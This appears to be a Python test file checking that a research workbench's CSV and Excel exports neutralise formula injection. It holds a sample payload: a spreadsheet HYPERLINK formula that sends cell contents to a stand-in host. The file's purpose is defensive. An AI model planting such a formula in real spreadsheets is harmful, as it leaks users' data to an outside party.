"""Spreadsheet cells that look like formulas stay text (CSV injection, OWASP)."""

import csv
import io

from openpyxl import load_workbook

from workbench.core.dto import (
    CodeDocumentMatrix,
    FrequencyReport,
    FrequencyRow,
    Provenance,
    QuoteView,
    RespondentMatrix,
    RespondentRow,
)
from workbench.reports.excel import frequency_xlsx
from workbench.reports.frequency_text import to_csv

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def report() -> FrequencyReport:
    rows = (FrequencyRow(path=f"{EVIL} > +Sub", code="+Sub", depth=1, group="@pabo", count=2, n=3),
            FrequencyRow(path=f"{EVIL} > +Sub", code="+Sub", depth=1, group="", count=2, n=3))
    return FrequencyReport("respondent", "programme", ("@pabo",), {"@pabo": 3, "": 3}, rows)


def test_csv_cells_that_start_like_a_formula_get_a_quote():
    rows = list(csv.reader(io.StringIO(to_csv(report()))))
    assert rows[1][:3] == [f"'{EVIL} > +Sub", "'+Sub", "'@pabo"] and rows[1][4] == "2"


def test_xlsx_cells_that_start_like_a_formula_are_text(tmp_path):
    quote = QuoteView("g", "-min", "t", "=R01", ("@pabo",), 1000, "=1+1 zei ik", "-anna", 0, "+interview 1")
    documents = CodeDocumentMatrix(("=code",), ("t",), {("=code", "t"): 1}, Provenance(()))
    people = RespondentMatrix(("=code",), ("-leeftijd",), (RespondentRow("=R01", ("@pabo",), "+Hogeschool",
                                                                        {"-leeftijd": "=41"}, ("t",), {"=code": 1}),),
                              Provenance(()))
    frequency_xlsx([report()], documents, people, [quote], tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in texts} >= {f"{EVIL} > +Sub", "=code", "=R01", "=1+1 zei ik", "-anna", "@pabo", "+interview 1",
                                        "+Hogeschool", "-leeftijd", "=41"}
    assert all(c.data_type == "s" for c in texts)  # strings, shown as written: nothing runs
